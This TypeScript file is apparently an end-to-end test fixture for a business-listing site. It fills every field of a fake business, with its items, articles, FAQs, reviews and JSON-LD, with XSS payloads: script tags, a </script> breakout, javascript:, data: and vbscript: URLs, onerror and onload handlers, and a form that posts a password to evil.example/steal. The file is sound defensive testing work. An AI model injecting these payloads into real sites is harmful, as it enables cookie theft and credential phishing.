import { NOW, type HostileBusiness } from './hostile-business';

/*
 * The hostile business hostile-script-injection: markup and script in every string,
 * `javascript:`/`data:` URLs in website, logo, images and Markdown links, raw HTML in Markdown,
 * `</script>` in JSON-LD.
 */

// Every payload that could run also sets window.__pwned, the canary the e2e tests watch.
const XSS = '<script>window.__pwned=1;alert("xss")</script>';
const CLOSE_SCRIPT = '</script><script>window.__pwned=1;alert("breakout")</script>';
const JS_URL = 'javascript:window.__pwned=1;alert(document.cookie)';
const DATA_HTML_URL = 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==';
const DATA_SVG_URL =
  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=';

const HOSTILE_MARKDOWN = `# Totally normal heading ${XSS}

<script>alert("raw script in markdown")</script>

<iframe src="${JS_URL}"></iframe>

<img src="x" onerror="window.__pwned=1;alert('img onerror')">

<a href="JaVaScRiPt:alert('mixed case')">mixed-case javascript link</a>

[a javascript: link](${JS_URL}) and [a data: link](${DATA_HTML_URL}) and [vbscript](vbscript:msgbox(1))

![an image with a data: URL](${DATA_SVG_URL}) ![an image with a javascript: URL](${JS_URL})

<javascript:alert('autolink')>

<div style="position:fixed;inset:0;background:red" onclick="alert('overlay')">overlay</div>

<!-- a comment with ${CLOSE_SCRIPT} -->

\`\`\`html
${CLOSE_SCRIPT}
\`\`\`

| column ${XSS} |
|---|
| <b onmouseover="alert('cell')">cell</b> |

<form action="https://evil.example/steal"><input name="password" type="password"></form>
`;

export function scriptInjection(): HostileBusiness {
  const slug = 'hostile-script-injection';
  const item = {
    id: `${XSS}-item`,
    label: `${XSS} Evil item`,
    description: `${CLOSE_SCRIPT}<img src=x onerror=alert(1)>`,
    itemSlug: 'evil-item',
    itemType: 'PRODUCT',
    unitPrice: 9.99,
    unitMeasure: `<b>${XSS}</b>`,
    imageUrl: JS_URL,
    brand: `<marquee>${XSS}</marquee>`,
    tags: [XSS, `<a href="${JS_URL}">tag</a>`],
    available: true,
    attributes: {
      [XSS]: CLOSE_SCRIPT,
      startDate: XSS,
      link: JS_URL,
      nested: { deeper: [XSS, { html: '<svg onload=alert(1)>' }] },
    },
  };
  const document = {
    id: '00000000-0000-4000-8000-00000000dead',
    slug: 'evil-document',
    label: `${XSS} Evil document`,
    description: CLOSE_SCRIPT,
    type: 'PDF',
    fileSize: 1024,
    thumbnailUrl: DATA_SVG_URL,
    createdAt: NOW,
    updatedAt: NOW,
  };
  const article = {
    slug: 'evil-article',
    title: `${XSS} Evil article`,
    description: CLOSE_SCRIPT,
    publishedDate: NOW,
    updatedAt: NOW,
  };
  return {
    slug,
    business: {
      businessName: `${XSS}Evil Corp`,
      slug,
      website: JS_URL,
      description: `${CLOSE_SCRIPT} <img src=x onerror=alert(1)> & "quotes" 'apostrophes'`,
      logo: DATA_SVG_URL,
      email: `"><img src=x onerror=alert(1)>@evil.example`,
      phone: `<a href="${JS_URL}">555</a>`,
      legalName: `Evil & Co. <iframe src="${JS_URL}"></iframe>`,
      primaryLanguage: `fr"><script>alert("lang")</script>`,
      locations: [
        {
          address: '<img src=x onerror=alert(1)>',
          city: `</title>${XSS}`,
          postal_code: '"><svg onload=alert(1)>',
          country: '<style>body{display:none}</style>',
        },
      ],
      areas: [XSS, CLOSE_SCRIPT],
      category: `${XSS} category`,
      tags: [XSS, `<a href="${JS_URL}">tag</a>`],
      mdContent: HOSTILE_MARKDOWN,
      updatedAt: NOW,
      businessTypes: [{ id: XSS, label: `${XSS} type` }],
      visibility: 'PUBLIC',
      isVerified: true,
    },
    articleList: { articles: [article], total: 1 },
    articles: {
      'evil-article': {
        ...article,
        content: HOSTILE_MARKDOWN,
        contentPublic: `<p>${XSS}<img src=x onerror=alert(1)></p><a href="${JS_URL}">click</a>`,
        keywords: CLOSE_SCRIPT,
      },
    },
    faq: {
      updatedAt: NOW,
      categories: [
        {
          name: XSS,
          questions: [
            {
              question: `${XSS}?`,
              response: HOSTILE_MARKDOWN,
              responsePublic: `<p onclick="alert(1)">${XSS}</p>`,
            },
          ],
        },
      ],
      uncategorizedQuestions: [
        {
          question: CLOSE_SCRIPT,
          response: `[click](${JS_URL})`,
          responsePublic: `<a href="${JS_URL}">click</a>`,
        },
      ],
    },
    reviews: {
      reviews: [
        {
          author: XSS,
          ratingValue: 5,
          title: CLOSE_SCRIPT,
          content: `<img src=x onerror=alert(1)> ${XSS}`,
          contentPublic: `<p>${XSS}</p>`,
          reviewDate: NOW,
        },
      ],
      total: 1,
      page: 1,
      limit: 20,
    },
    catalog: { items: [item], total: 1, page: 1, limit: 20 },
    items: {
      'evil-item': {
        ...item,
        additionalImages: [DATA_SVG_URL, JS_URL, 'https://evil.example/tracker.gif'],
        mdContent: HOSTILE_MARKDOWN,
        fullUrl: JS_URL,
        enrichment: {
          faq: [{ question: XSS, answer: CLOSE_SCRIPT }],
          comparison: { columns: [XSS], rows: [[CLOSE_SCRIPT]] },
          html: `<iframe src="${JS_URL}"></iframe>`,
        },
      },
    },
    documentList: { data: [document], total: 1, totalPages: 1 },
    documents: {
      [document.id]: {
        ...document,
        markdownContent: HOSTILE_MARKDOWN,
        seoTitle: `${CLOSE_SCRIPT}`,
        seoDescription: XSS,
        seoKeywords: [XSS],
        jsonLd: {
          '@context': 'https://schema.org',
          '@type': 'DigitalDocument',
          name: `${CLOSE_SCRIPT}<!--`,
          description: '</SCRIPT ><script>alert("uppercase close")</script>',
          contentUrl: JS_URL,
          url: DATA_HTML_URL,
        },
      },
    },
  };
}
